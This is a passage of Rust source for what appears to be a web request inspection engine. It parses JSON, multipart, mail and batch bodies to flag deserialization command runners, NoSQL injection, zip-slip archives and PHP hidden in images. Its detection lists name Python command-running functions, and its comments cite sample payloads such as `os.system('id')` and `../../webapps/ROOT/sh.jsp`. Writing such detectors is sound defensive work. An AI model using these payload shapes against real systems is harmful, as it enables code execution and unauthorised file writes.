    fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("a JSON value")
    }

    // Numbers, booleans and null are not inspected, but one nested too deep is still reported.
    // `true` or `0` as a password is type juggling (see [`JsonWalk::juggled`]).
    fn visit_bool<E>(mut self, v: bool) -> Result<(), E> {
        if !self.skipping() && v {
            self.juggled("true");
        }
        Ok(())
    }
    fn visit_i64<E>(mut self, v: i64) -> Result<(), E> {
        if !self.skipping() && v == 0 {
            self.juggled("0");
        }
        Ok(())
    }
    fn visit_u64<E>(mut self, v: u64) -> Result<(), E> {
        if !self.skipping() && v == 0 {
            self.juggled("0");
        }
        Ok(())
    }
    fn visit_f64<E>(mut self, _: f64) -> Result<(), E> {
        self.skipping();
        Ok(())
    }
    fn visit_unit<E>(mut self) -> Result<(), E> {
        if !self.skipping() {
            self.matches_all(None);
        }
        Ok(())
    }

    fn visit_str<E>(mut self, s: &str) -> Result<(), E> {
        if !self.skipping() {
            if s.len() <= 8 {
                self.matches_all(Some(s));
            }
            let (prefix, path) = (self.prefix, &*self.path);
            self.c.offer(Kind::Value, s.as_bytes(), false, false, |l| {
                write_json_label(l, prefix, path);
            });
            // jsonpickle's references (`{"py/function": "subprocess.check_output"}` under a
            // `py/reduce`): decoding the document calls what they name.
            // `py/repr` is evaluated as an expression (`os/os.system('id')`).
            if (["/py/function", "/py/type", "/py/object"]
                .iter()
                .any(|k| path.ends_with(k))
                && s.rsplit_once('.').is_some_and(|(module, name)| {
                    PICKLE_MODULES.contains(&module.as_bytes())
                        && PICKLE_FUNCTIONS.contains(&name.as_bytes())
                }))
                || (path.ends_with("/py/repr") && s.contains('('))
            {
                let label = json_label(prefix, path);
                self.c
                    .anomaly(rules::RCE_PICKLE, &label, "jsonpickle command runner");
            }
            // Ruby's class hints (Oj's object mode `^o`, the json gem's `json_class`) naming a
            // class of a Marshal or Oj gadget chain: loading the document builds it.
            if (path.ends_with("/^o") || path.ends_with("/json_class"))
                && crate::detect::ruby_gadget(s)
            {
                let label = json_label(prefix, path);
                self.c.anomaly(rules::RCE_RUBY, &label, "Ruby gadget class");
            }
            // The `query` of a GraphQL request, or of one in a batch (`[{"query": …}, …]`).
            if let Some(at) = path.strip_suffix("/query")
                && (at.is_empty()
                    || at
                        .strip_prefix('/')
                        .is_some_and(|i| !i.is_empty() && i.bytes().all(|b| b.is_ascii_digit())))
            {
                let label = json_label(prefix, path);
                graphql_document(self.c, s.as_bytes(), &label, false, !at.is_empty());
            }
            // A string the application parses again: JSON serialised into a field
            // (`"criteria": "{\"email\": {\"$regex\": …}}"`, a GraphQL variable), or base64.
            if !self.embedded {
                let doc = s.trim_ascii_start().as_bytes();
                if matches!(doc.first(), Some(b'{' | b'[')) {
                    json_walk_at(self.c, doc, &json_label(prefix, path), true);
                } else if doc.starts_with(b"eyJ") {
                    // A JWT (an ID token, a client assertion): its header's key pointers.
                    jwt_header(self.c, doc, &format!("{}:jose", json_label(prefix, path)));
                } else {
                    base64_document(self.c, s.as_bytes(), Kind::Value, || {
                        json_label(prefix, path)
                    });
                }
            }
        }
        Ok(())
    }

    fn visit_seq<A: serde::de::SeqAccess<'de>>(mut self, mut seq: A) -> Result<(), A::Error> {
        if self.skipping() {
            while seq.next_element::<serde::de::IgnoredAny>()?.is_some() {}
            return Ok(());
        }
        self.juggled("[");
        let mut i = 0usize;
        loop {
            let len = self.path.len();
            let _ = write!(self.path, "/{i}");
            let more = seq.next_element_seed(self.child())?.is_some();
            self.path.truncate(len);
            if !more {
                break;
            }
            i += 1;
        }
        // A batch of GraphQL operations (its elements past the input limits are counted
        // without being read).
        if self.depth == 0 && i > crate::graphql::MAX_BATCH && self.c.graphql_batch > 0 {
            let label = json_label(self.prefix, self.path);
            self.c.anomaly(rules::PROTO_GRAPHQL_LIMITS, &label, "batch");
        }
        Ok(())
    }

    fn visit_map<A: serde::de::MapAccess<'de>>(mut self, mut map: A) -> Result<(), A::Error> {
        if self.skipping() {
            while map
                .next_entry::<serde::de::IgnoredAny, serde::de::IgnoredAny>()?
                .is_some()
            {}
            return Ok(());
        }
        let len = self.path.len();
        let mut keys = KeySet::default();
        let mut empty = true;
        while map
            .next_key_seed(JsonKey {
                c: &mut *self.c,
                path: &mut *self.path,
                prefix: self.prefix,
                keys: &mut keys,
            })?
            .is_some()
        {
            empty = false;
            map.next_value_seed(self.child())?;
            self.path.truncate(len);
        }
        // An empty document among the alternatives of `$or` (`{"$or": [{}, {"owner": "me"}]}`)
        // matches every record, whatever the others ask.
        if empty
            && let Some((parent, index)) = self.path.rsplit_once('/')
            && index.bytes().all(|b| b.is_ascii_digit())
            && parent
                .rsplit('/')
                .next()
                .is_some_and(|k| k.eq_ignore_ascii_case("$or"))
        {
            let label = json_label(self.prefix, self.path);
            self.c.anomaly(rules::SQLI_NOSQL, &label, "{}");
        }
        Ok(())
    }
}

/// Whether a JSON key or a parameter's name holds a password or a one-time code, for
/// [`JsonWalk::juggled`]: `password`, `passwd`, `passcode`, `passphrase`, `pwd`, `otp`,
/// alone or after `current`, `old`, `new`, `user`, `account`, `admin`, `login`, `confirm`,
/// `repeat` (case, `_` and `-` aside). Flags about a password (`remember_password`,
/// `show_password`) are not one.
fn credential_name(name: &str) -> bool {
    let mut buf = [0u8; 32];
    let mut n = 0;
    for b in name.bytes().filter(|b| !matches!(b, b'_' | b'-')) {
        let Some(slot) = buf.get_mut(n) else {
            return false;
        };
        *slot = b.to_ascii_lowercase();
        n += 1;
    }
    let mut k = &buf[..n];
    for owner in [
        &b"current"[..],
        b"old",
        b"new",
        b"user",
        b"account",
        b"admin",
        b"login",
        b"confirm",
        b"repeat",
    ] {
        if let Some(rest) = k.strip_prefix(owner) {
            k = rest;
            break;
        }
    }
    matches!(
        k,
        b"password" | b"passwd" | b"passcode" | b"passphrase" | b"pwd" | b"otp"
    )
}

/// The keys of one JSON object, as hashes: a list on the stack while the object is small (no
/// allocation for most objects), a set beyond.
#[derive(Default)]
struct KeySet {
    few: [u64; KeySet::FEW],
    len: usize,
    many: Option<std::collections::HashSet<u64, foldhash::fast::FixedState>>,
}

impl KeySet {
    const FEW: usize = 16;

    /// Adds `key`; false when it was there already.
    fn insert(&mut self, key: &[u8]) -> bool {
        use std::hash::BuildHasher as _;
        let h = foldhash::fast::FixedState::default().hash_one(key);
        if let Some(many) = &mut self.many {
            return many.insert(h);
        }
        if self.few[..self.len].contains(&h) {
            return false;
        }
        if self.len < Self::FEW {
            self.few[self.len] = h;
            self.len += 1;
        } else {
            let mut many: std::collections::HashSet<u64, foldhash::fast::FixedState> =
                self.few.iter().copied().collect();
            many.insert(h);
            self.many = Some(many);
        }
        true
    }
}

/// Reads one object key: appends it to the path and inspects it as a name.
struct JsonKey<'a, 'l> {
    c: &'a mut Collector<'l>,
    path: &'a mut String,
    prefix: &'a str,
    /// The keys of the object read so far.
    keys: &'a mut KeySet,
}

impl<'de> serde::de::DeserializeSeed<'de> for JsonKey<'_, '_> {
    type Value = ();

    fn deserialize<D: serde::Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_str(self)
    }
}

impl<'de> serde::de::Visitor<'de> for JsonKey<'_, '_> {
    type Value = ();

    fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("an object key")
    }

    fn visit_str<E>(self, k: &str) -> Result<(), E> {
        self.path.push('/');
        push_label_part(self.path, k.as_bytes());
        // Parsers disagree on a repeated key (the first wins in some, the last in most): a
        // check can read one value while the application acts on the other.
        if !self.keys.insert(k.as_bytes()) {
            let label = json_label(self.prefix, self.path);
            self.c.anomaly(rules::PROTO_JSON_DUPLICATE_KEY, &label, k);
        }
        if !self.c.full() {
            let (prefix, path) = (self.prefix, &*self.path);
            self.c.offer(Kind::Name, k.as_bytes(), false, false, |l| {
                write_json_label(l, prefix, path);
            });
        }
        Ok(())
    }
}

/// A mail part's or message's text decoded from its `Content-Transfer-Encoding`: quoted-
/// printable (`=3C` is `<`, `=` ending a line joins it to the next) or base64 (bytes outside
/// the alphabet skipped, as mail readers skip them); `None` for any other encoding, whose
/// text is read as it is.
fn transfer_decoded(encoding: &[u8], content: &[u8]) -> Option<Vec<u8>> {
    use base64::Engine as _;
    let encoding = encoding.trim_ascii();
    if encoding.eq_ignore_ascii_case(b"base64") {
        let text: Vec<u8> = content
            .iter()
            .copied()
            .filter(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/'))
            .collect();
        return EMBEDDED_BASE64.decode(text).ok();
    }
    if !encoding.eq_ignore_ascii_case(b"quoted-printable") {
        return None;
    }
    let hex = |b: u8| (b as char).to_digit(16);
    let mut out = Vec::with_capacity(content.len());
    let mut i = 0;
    while i < content.len() {
        let b = content[i];
        if b != b'=' {
            out.push(b);
            i += 1;
        } else if content[i + 1..].starts_with(b"\r\n") {
            i += 3;
        } else if content[i + 1..].starts_with(b"\n") {
            i += 2;
        } else if let (Some(h), Some(l)) = (
            content.get(i + 1).and_then(|&c| hex(c)),
            content.get(i + 2).and_then(|&c| hex(c)),
        ) {
            out.push((h * 16 + l) as u8);
            i += 3;
        } else {
            out.push(b);
            i += 1;
        }
    }
    Some(out)
}

/// The `boundary` parameter of a multipart media type's parameters, when usable (not empty,
/// at most 200 bytes).
fn boundary_of(params: Vec<(String, String)>) -> Option<String> {
    params
        .into_iter()
        .find(|(k, v)| k == "boundary" && !v.is_empty() && v.len() <= 200)
        .map(|(_, v)| v)
}

/// A header block and what follows its blank line (CR LF or LF alone, whichever comes
/// first), or `None` when there is no blank line.
fn head_and_body(part: &[u8]) -> Option<(&[u8], &[u8])> {
    let crlf = memchr::memmem::find(part, b"\r\n\r\n");
    let lf = memchr::memmem::find(part, b"\n\n");
    match (crlf, lf) {
        (Some(c), Some(l)) if l < c => Some((&part[..l], &part[l + 2..])),
        (Some(c), _) => Some((&part[..c], &part[c + 4..])),
        (None, Some(l)) => Some((&part[..l], &part[l + 2..])),
        (None, None) => None,
    }
}

/// How a multipart body came: as a form, as the body of a request or a part of one (an
/// OData `$batch`, a mail's alternatives), or inside a mail message.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Framing {
    Form,
    Mixed,
    Mail,
}

/// A bounded multipart reader: finds `--boundary` delimiters, reads each part's headers
/// (Content-Disposition name and filename) and its content. With [`Framing::Form`] the body
/// is `multipart/form-data`, whose parts must name themselves (RFC 7578); the parts of
/// `multipart/related` (SOAP with attachments) and `multipart/mixed` need not, and may
/// declare a binary transfer encoding; a mail's may be quoted-printable or base64, which is
/// decoded, and a mail may have a preamble before its first boundary. `nested`: a multipart
/// body inside a part of another (a changeset of OData's `$batch`, a mail's alternative
/// texts), whose parts are not read for further nesting.
fn multipart(c: &mut Collector<'_>, body: &[u8], boundary: &[u8], framing: Framing, nested: bool) {
    let mut delim = Vec::with_capacity(boundary.len() + 2);
    delim.extend_from_slice(b"--");
    delim.extend_from_slice(boundary);
    let finder = memchr::memmem::Finder::new(&delim);
    let positions: Vec<usize> = finder
        .find_iter(body)
        .take(c.limits.max_multipart_parts + 2)
        .collect();
    let Some(&first) = positions.first() else {
        c.anomaly(rules::PROTO_MULTIPART, "body", "no boundary in body");
        c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false);
        return;
    };
    if framing != Framing::Mail && body[..first].iter().any(|b| !b.is_ascii_whitespace()) {
        // Content before the first boundary is ignored by some parsers and not by others.
        // A mail has a preamble there by design ("This is a multi-part message ...").
        c.anomaly(rules::PROTO_MULTIPART, "body", "data before first boundary");
    }
    let mut closed = false;
    let mut parts = 0usize;
    for (idx, &start) in positions.iter().enumerate() {
        let after = start + delim.len();
        if body.get(after..after + 2) == Some(b"--") {
            closed = true;
            break;
        }
        // A body that never closes ends with a part that lenient parsers still read: it is
        // inspected like the others.
        let next = match positions.get(idx + 1) {
            Some(&next) => next,
            None if body[after..].iter().all(u8::is_ascii_whitespace) => break,
            None => body.len(),
        };
        parts += 1;
        if parts > c.limits.max_multipart_parts {
            c.flag_overflow("multipart");
            return;
        }
        let part = &body[after..next];
        let part = part
            .strip_prefix(b"\r\n")
            .or_else(|| part.strip_prefix(b"\n"))
            .unwrap_or(part);
        let part = part
            .strip_suffix(b"\r\n")
            .or_else(|| part.strip_suffix(b"\n"))
            .unwrap_or(part);
        let (head, content) = match head_and_body(part) {
            Some(split) => split,
            None => {
                // Parsers disagree on such a part: inspect all of it as a value.
                c.anomaly(
                    rules::PROTO_MULTIPART_LAX,
                    "multipart",
                    "part without headers",
                );
                (&b""[..], part)
            }
        };
        multipart_part(c, head, content, framing, nested);
    }
    if !closed {
        c.anomaly(
            rules::PROTO_MULTIPART_LAX,
            "multipart",
            "missing closing boundary",
        );
    }
}

fn multipart_part(
    c: &mut Collector<'_>,
    head: &[u8],
    content: &[u8],
    framing: Framing,
    nested: bool,
) {
    let form_data = framing == Framing::Form;
    let mut name: Option<Vec<u8>> = None;
    let mut filename: Option<Vec<u8>> = None;
    let mut part_ct: Option<String> = None;
    let mut part_boundary: Option<String> = None;
    // A mail part's quoted-printable or base64 text, decoded.
    let mut decoded: Option<Vec<u8>> = None;
    let mut dispositions = 0;
    for line in head.split(|&b| b == b'\n').take(32) {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let Some(colon) = memchr::memchr(b':', line) else {
            continue;
        };
        let hname = line[..colon].trim_ascii().to_ascii_lowercase();
        let hvalue = line[colon + 1..].trim_ascii();
        if hname == b"content-disposition" {
            dispositions += 1;
            for (k, v) in disposition_params(hvalue) {
                match k.as_str() {
                    "name" => name = Some(v),
                    "filename" | "filename*" => filename = Some(v),
                    _ => {}
                }
            }
        } else if hname == b"content-type" {
            let (mt, params) = media_type(hvalue);
            if params
                .iter()
                .any(|(k, v)| k == "charset" && !readable_charset(v))
            {
                c.anomaly(
                    rules::PROTO_MULTIPART_CHARSET,
                    "multipart",
                    "part charset not readable",
                );
            }
            part_boundary = boundary_of(params);
            part_ct = Some(mt);
        } else if hname == b"content-transfer-encoding" && framing == Framing::Mail {
            decoded = transfer_decoded(hvalue, content);
        } else if hname == b"content-transfer-encoding"
            && (form_data
                || (framing != Framing::Mail
                    && !["7bit", "8bit", "binary"]
                        .iter()
                        .any(|e| hvalue.eq_ignore_ascii_case(e.as_bytes()))))
        {
            // Deprecated for form data (RFC 7578 section 4.7); base64 or quoted-printable
            // hides the content from inspection. In mail they are the rule, and decoded.
            c.anomaly(
                rules::PROTO_MULTIPART_CHARSET,
                "multipart",
                "part with Content-Transfer-Encoding",
            );
        }
        let label = format!("multipart-header:{}", label_part(&hname));
        c.push(label, Kind::OtherHeader, hvalue.to_vec(), false, false);
    }
    if dispositions > 1 {
        c.anomaly(
            rules::PROTO_MULTIPART,
            "multipart",
            "part with several Content-Disposition",
        );
    } else if dispositions == 0 && form_data {
        c.anomaly(
            rules::PROTO_MULTIPART_LAX,
            "multipart",
            "part without Content-Disposition",
        );
    }
    c.out.arg_count += 1;
    let content = decoded.as_deref().unwrap_or(content);
    let field = name.as_deref().map(label_part).unwrap_or_default();
    if name.as_deref() == Some(b"_charset_".as_slice())
        && !readable_charset(&String::from_utf8_lossy(content))
    {
        // The HTML form convention: `_charset_` names the charset of every other field.
        c.anomaly(
            rules::PROTO_MULTIPART_CHARSET,
            "multipart:_charset_",
            "form charset not readable",
        );
    }
    if let Some(n) = &name {
        if odd_name(n, true) {
            c.anomaly(
                rules::PROTO_MULTIPART,
                &format!("multipart:{field}"),
                "odd field name",
            );
        }
        c.push(
            format!("multipart:{field}"),
            Kind::Name,
            n.clone(),
            false,
            false,
        );
    }
    if let Some(f) = filename {
        if odd_name(&f, false) {
            c.anomaly(
                rules::PROTO_MULTIPART,
                &format!("file:{field}"),
                "odd file name",
            );
        }
        // A file of no declared kind (`application/octet-stream`, what clients send for an
        // extension they do not know) is read by its name: configuration a device loads
        // (`printer.cfg`), TeX a compiler runs, scripts.
        let interpreted_name = interpreted_file(&f);
        c.push(format!("file:{field}"), Kind::Filename, f, false, false);
        // File contents are inspected only when they are text the application may interpret:
        // by their declared type (documents, configuration, scripts, TeX, spreadsheets as CSV,
        // EDI interchanges, PostScript, which Ghostscript runs as a program, whatever type a
        // PostScript file (`%!PS`) is declared as), or when a file declared as an image is
        // not one (`banner.jpg` holding ImageMagick's MVG drawing
        // commands, which run delegates; a DjVu document).
        // A model file (`classifier.pkl`) that imports a command runner runs it when loaded.
        if pickle_runs(content) {
            c.anomaly(
                rules::RCE_PICKLE,
                &format!("file-content:{field}"),
                "pickle importing a command runner",
            );
        }
        // An archive whose member would be written outside the folder it is unpacked into
        // (`../../webapps/ROOT/sh.jsp`, `/etc/cron.d/x`): the "zip slip" of every unpacker that
        // trusts member names (Zimbra's amavis unpacked a mail's tar with cpio).
        if archive_escapes(content, part_ct.as_deref()) {
            c.anomaly(
                rules::LFI_ARCHIVE_ESCAPE,
                &format!("file-content:{field}"),
                "archive member outside the folder it is unpacked into",
            );
        }
        let textual = part_ct.as_deref().is_none_or(|t| {
            t.starts_with("text/")
                || t.contains("json")
                || t.contains("xml")
                || t.contains("php")
                || t.contains("x-sh")
                || t.contains("yaml")
                || t.contains("csv")
                || t.contains("/edi")
                || t.contains("postscript")
                // HLS playlists, whose lines a transcoder opens (`concat:…|file:///…`).
                || t.contains("mpegurl")
                || t.ends_with("eps")
                // TeX and LaTeX, whose `\write18` runs commands where shell escape is on.
                || t.contains("tex")
                || (t == "application/octet-stream" && interpreted_name)
        }) || content.starts_with(b"%!")
            || part_ct
                .as_deref()
                .is_some_and(|t| t.starts_with("image/") && !image_magic(content));
        if part_ct.as_deref() == Some("image/svg+xml") && inert_svg(content) {
            xml(c, content, "xml", false);
        } else if textual {
            c.push(
                format!("file-content:{field}"),
                Kind::FileContent,
                content.to_vec(),
                false,
                false,
            );
        } else if php_tag_in(content) {
            // An image with PHP inside (`GIF89a;<?php ...`) runs as a script wherever the
            // server lets an upload be included or served through PHP.
            c.anomaly(
                rules::PHP_OPEN_TAG,
                &format!("file-content:{field}"),
                "PHP code in a binary file",
            );
        }
        return;
    }
    match part_ct.as_deref() {
        Some(t) if t.ends_with("json") => json(c, content, &format!("multipart:{field}")),
        // A batch (OData's `$batch`, Google's batch API): requests in parts of their own, and
        // a changeset of them one level down.
        Some("application/http") if !form_data && embedded_request(c, content) => {}
        // A mail's delivery report and the header block of a returned message are header
        // fields by design (one with markup in it is read as text); a forwarded message's
        // text is read without its header block.
        Some("message/delivery-status" | "text/rfc822-headers" | "message/rfc822-headers")
            if framing == Framing::Mail && memchr::memchr(b'<', content).is_none() => {}
        Some("message/rfc822") if framing == Framing::Mail => {
            let text = head_and_body(content).map_or(content, |(_, text)| text);
            c.push(
                format!("multipart:{field}"),
                Kind::Value,
                text.to_vec(),
                false,
                false,
            );
        }
        Some(t)
            if t.starts_with("multipart/")
                && !form_data
                && !nested
                && let Some(b) = &part_boundary =>
        {
            multipart(c, content, b.as_bytes(), framing, true);
        }
        // The root of a SOAP message with attachments (`application/xop+xml`) is a document.
        Some(t) if !form_data && t.ends_with("xml") => xml(c, content, "xml", false),
        _ => {
            // A field holding a JSON document is parsed by the application as one (the
            // GraphQL multipart request's `operations`, a filter sent as text), and may be
            // stored as text too: read both ways, as a query's or a form's JSON is.
            if part_ct.is_none() && looks_like_json(content) && !c.full() {
                json_walk_at(c, content, &format!("multipart:{field}"), true);
            }
            c.push(
                format!("multipart:{field}"),
                Kind::Value,
                content.to_vec(),
                false,
                false,
            );
        }
    }
}

/// A mail message (`message/rfc822`, posted by an inbound-mail service to a help desk or a
/// ticket system, which renders it). Its header block is the mail's own, not a header
/// injection; its body is read as a multipart body when the header block says it is one
/// (one level of nesting below, as `multipart/alternative` inside `multipart/mixed`), else
/// as text.
fn mail_message(c: &mut Collector<'_>, msg: &[u8]) {
    let (head, body) = head_and_body(msg).unwrap_or((&b""[..], msg));
    // The Content-Type and Subject fields, with their folded lines (`;\r\n\tboundary="b1"`)
    // joined. The subject is text a help desk shows as a ticket's title.
    let (mut content_type, mut subject): (Option<Vec<u8>>, Option<Vec<u8>>) = (None, None);
    let mut encoding: Option<&[u8]> = None;
    let mut current: Option<bool> = None;
    for line in head.split(|&b| b == b'\n').take(256) {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let field = match current {
            Some(true) => content_type.as_mut(),
            Some(false) => subject.as_mut(),
            None => None,
        };
        if line.first().is_some_and(|b| *b == b' ' || *b == b'\t') {
            if let Some(f) = field {
                f.extend_from_slice(line);
            }
            continue;
        }
        let named = |n: &[u8]| {
            line.get(..n.len())
                .is_some_and(|h| h.eq_ignore_ascii_case(n))
        };
        current = None;
        if named(b"content-type:") && content_type.is_none() {
            content_type = Some(line[13..].to_vec());
            current = Some(true);
        } else if named(b"subject:") && subject.is_none() {
            subject = Some(line[8..].to_vec());
            current = Some(false);
        } else if named(b"content-transfer-encoding:") {
            encoding = Some(&line[26..]);
        }
    }
    if let Some(s) = subject {
        c.push(
            "mail:subject".to_owned(),
            Kind::Value,
            s.trim_ascii().to_vec(),
            false,
            false,
        );
    }
    let boundary = content_type.as_deref().and_then(|ct| {
        let (mt, params) = media_type(ct);
        mt.starts_with("multipart/")
            .then(|| boundary_of(params))
            .flatten()
    });
    match boundary {
        Some(b) => multipart(c, body, b.as_bytes(), Framing::Mail, false),
        None => {
            let text = encoding
                .and_then(|e| transfer_decoded(e, body))
                .unwrap_or_else(|| body.to_vec());
            c.push("body".to_owned(), Kind::Body, text, false, false);
        }
    }
}

/// A request in a batch's part (`application/http`): a request line (`PATCH Products(77)
/// HTTP/1.1`), headers, a blank line and a body. The server runs it as a request of its own,
/// so its target is read as a path and query and its body by its declared type, under the
/// labels of a request's own (`path`, `query:NAME`, `json:/…`): a batch is framing, and the
/// request lines and headers inside it are no header injection. False, with nothing read,
/// when the part does not start with a request line.
fn embedded_request(c: &mut Collector<'_>, content: &[u8]) -> bool {
    let content = content.trim_ascii_start();
    let line_end = memchr::memchr(b'\n', content).unwrap_or(content.len());
    let line = content[..line_end].trim_ascii_end();
    let mut words = line.split(|&b| b == b' ').filter(|w| !w.is_empty());
    let (Some(method), Some(target), Some(version), None) =
        (words.next(), words.next(), words.next(), words.next())
    else {
        return false;
    };
    if !method.iter().all(u8::is_ascii_uppercase) || !version.starts_with(b"HTTP/1.") {
        return false;
    }
    let (path, query) = match memchr::memchr(b'?', target) {
        Some(q) => (&target[..q], Some(&target[q + 1..])),
        None => (target, None),
    };
    let (path, bad) = percent_decode_cow(path, false);
    c.offer(Kind::Path, &path, bad, true, |l| l.push_str("path"));
    if let Some(q) = query {
        urlencoded(c, q, "query", true);
    }
    let rest = content[line_end..]
        .strip_prefix(b"\n")
        .unwrap_or(&content[line_end..]);
    // No header fields: the blank line follows the request line.
    let (head, body) = match rest
        .strip_prefix(b"\r\n")
        .or_else(|| rest.strip_prefix(b"\n"))
    {
        Some(body) => (&b""[..], body),
        None => head_and_body(rest).unwrap_or((rest, &b""[..])),
    };
    // Its header fields reach the application as a request's do (a `User-Agent` with a
    // lookup in it); the batch's framing ones are left out as the request's own are.
    let mut json_body = false;
    for line in head.split(|&b| b == b'\n').take(64) {
        let Some(i) = memchr::memchr(b':', line) else {
            continue;
        };
        let (name, value) = (line[..i].trim_ascii(), line[i + 1..].trim_ascii());
        if name.eq_ignore_ascii_case(b"content-type") {
            json_body = media_type(value).0.ends_with("json");
        }
        if !SKIPPED_HEADERS
            .iter()
            .any(|h| name.eq_ignore_ascii_case(h.as_bytes()))
        {
            header(c, name, value);
        }
    }
    let body = body.trim_ascii();
    if !body.is_empty() {
        if json_body {
            json(c, body, "json");
        } else {
            c.push("body".to_owned(), Kind::Body, body.to_vec(), false, false);
        }
    }
    true
}

/// Modules of Python whose functions run commands or code.
const PICKLE_MODULES: &[&[u8]] = &[
    b"__builtin__",
    b"builtins",
    b"commands",
    b"importlib",
    b"nt",
    b"os",
    b"posix",
    b"pty",
    b"runpy",
    b"subprocess",
];

/// Functions of [`PICKLE_MODULES`] that run commands or code.
const PICKLE_FUNCTIONS: &[&[u8]] = &[
    b"Popen",
    b"__import__",
    b"call",
    b"check_call",
    b"check_output",
    b"compile",
    b"eval",
    b"exec",
    b"execfile",
    b"execl",
    b"execlp",
    b"execv",
    b"execve",
    b"execvp",
    b"getoutput",
    b"getstatusoutput",
    b"import_module",
    b"popen",
    b"run",
    b"run_module",
    b"run_path",
    b"spawn",
    b"spawnl",
    b"spawnlp",
    b"spawnv",
    b"spawnve",
    b"system",
];

/// Whether `content` is a pickle that runs code ([`pickle_runs_code`]), as it is or sent as
/// base64 text (a model or a state posted as text, which the application decodes and loads):
/// standard or URL-safe alphabet, lines wrapped or not. Base64 is decoded only when its first
/// four characters open a pickle, and only its first 64 KiB.
fn pickle_runs(content: &[u8]) -> bool {
    use base64::Engine as _;
    if pickle_runs_code(content) {
        return true;
    }
    let text = content.trim_ascii();
    let b64 = |b: &u8| b.is_ascii_alphanumeric() || b"+/=-_".contains(b);
    if text.len() < MIN_EMBEDDED_BASE64 || !text[..4].iter().all(b64) {
        return false;
    }
    let mut head = [0u8; 3];
    let mut quad = [0u8; 4];
    for (q, b) in quad.iter_mut().zip(&text[..4]) {
        *q = standard_base64(*b);
    }
    if EMBEDDED_BASE64.decode_slice(quad, &mut head).is_err()
        || !matches!(head, [0x80, 2..=5, _] | [b'c' | b'(' | b']' | b'}', _, _])
    {
        return false;
    }
    let joined: Vec<u8> = text[..text.len().min(64 * 1024)]
        .iter()
        .filter(|b| !b.is_ascii_whitespace())
        .map(|&b| standard_base64(b))
        .collect();
    let cut = &joined[..joined.len() / 4 * 4];
    cut.iter().all(b64)
        && EMBEDDED_BASE64
            .decode(cut)
            .is_ok_and(|decoded| pickle_runs_code(&decoded))
}

/// Whether `content` is a Python pickle that imports a function able to run a command or
/// code (`os.system`, `subprocess.Popen`, `builtins.exec`): loading it calls that function.
/// Protocols 0 and 1 import with `c` module `\n` name `\n`; protocols 2 and later push two
/// short strings (`\x8c` and a length) and `\x93`, with memo marks (`\x94`) between.
fn pickle_runs_code(content: &[u8]) -> bool {
    if !matches!(content, [0x80, 2..=5, ..] | [b'c' | b'(' | b']' | b'}', ..]) {
        return false;
    }
    let known = |list: &[&[u8]], w: &[u8]| list.contains(&w);
    let line = |at: usize| {
        let rest = content.get(at..)?;
        let end = memchr::memchr(b'\n', &rest[..rest.len().min(32)])?;
        // A pickle copied through a text tool may have gained a CR before each LF.
        let word = rest[..end].strip_suffix(b"\r").unwrap_or(&rest[..end]);
        Some((word, at + end + 1))
    };
    let short_string = |at: usize| {
        let (&op, rest) = content.get(at..)?.split_first()?;
        let (&len, rest) = rest.split_first()?;
        let text = rest.get(..usize::from(len)).filter(|_| op == 0x8c)?;
        let mut next = at + 2 + usize::from(len);
        if content.get(next) == Some(&0x94) {
            next += 1;
        }
        Some((text, next))
    };
    let global = memchr::memchr_iter(b'c', content).take(4096).any(|i| {
        line(i + 1).is_some_and(|(module, next)| {
            known(PICKLE_MODULES, module)
                && line(next).is_some_and(|(name, _)| known(PICKLE_FUNCTIONS, name))
        })
    });
    global
        || memchr::memchr_iter(0x8c, content).take(4096).any(|i| {
            short_string(i).is_some_and(|(module, next)| {
                known(PICKLE_MODULES, module)
                    && short_string(next).is_some_and(|(name, after)| {
                        known(PICKLE_FUNCTIONS, name) && content.get(after) == Some(&0x93)
                    })
            })
        })
}

/// Whether `content` holds `<?php` followed by whitespace, in any case: five bytes that
/// binary formats do not produce by chance (one in 2^37 per position, before the
/// whitespace).
fn php_tag_in(content: &[u8]) -> bool {
    memchr::memmem::find_iter(content, b"<?").any(|i| {
        content
            .get(i + 2..i + 6)
            .is_some_and(|t| t[..3].eq_ignore_ascii_case(b"php") && t[3].is_ascii_whitespace())
    })
}

/// A field name (`field`) or file name with characters that parsers split or unquote
/// differently (`p;zzz`, `file=.txt`, quotes, CR/LF). HTML character references (`zzz&amp;zzz`)
/// are ordinary. File names may hold an apostrophe (`O'Brien.pdf`) and a backslash (old
/// browsers send `C:\dir\name`).
fn odd_name(n: &[u8], field: bool) -> bool {
    let mut i = 0;
    while i < n.len() {
        match n[i] {
            b'"' | b'=' | b'\r' | b'\n' | 0 => return true,
            b'\'' | b'\\' if field => return true,
            b'&' => {
                let end = n[i + 1..]
                    .iter()
                    .take(12)
                    .position(|&b| b == b';')
                    .map(|p| i + 1 + p);
                match end {
                    Some(e)
                        if e > i + 1
                            && n[i + 1..e]
                                .iter()
                                .all(|b| b.is_ascii_alphanumeric() || *b == b'#') =>
                    {
                        i = e
                    }
                    _ => {}
                }
            }
            b';' => return true,
            _ => {}
        }
        i += 1;
    }
    false
}

/// Extensions of files that what receives them reads as instructions: configuration a device
/// or service loads, TeX, shell, batch and script files.
const INTERPRETED_EXTENSIONS: &[&str] = &[
    "bash",
    "bat",
    "cfg",
    "cmd",
    "conf",
    "env",
    "gcode",
    "ini",
    "latex",
    "lua",
    "php",
    "pl",
    "properties",
    "ps1",
    "py",
    "rb",
    "service",
    "sh",
    "tex",
    "toml",
    "yaml",
    "yml",
    "zsh",
];

/// Whether an uploaded file's name ends in one of [`INTERPRETED_EXTENSIONS`].
fn interpreted_file(name: &[u8]) -> bool {
    let name = name.trim_ascii_end();
    let name = name.strip_suffix(b".").unwrap_or(name);
    let ext = name.rsplit(|c| *c == b'.').next().unwrap_or_default();
    ext.len() < name.len()
        && INTERPRETED_EXTENSIONS
            .iter()
            .any(|e| e.as_bytes().eq_ignore_ascii_case(ext))
}

/// Whether `content` starts as an image file does: JPEG, PNG, GIF, WebP (RIFF), BMP, TIFF,
/// ICO, AVIF/HEIC (ISO media), or SVG, which is text and XML and so inspected whatever it is
/// declared as. Anything else declared as an image is text or a disguise, and so is a DjVu
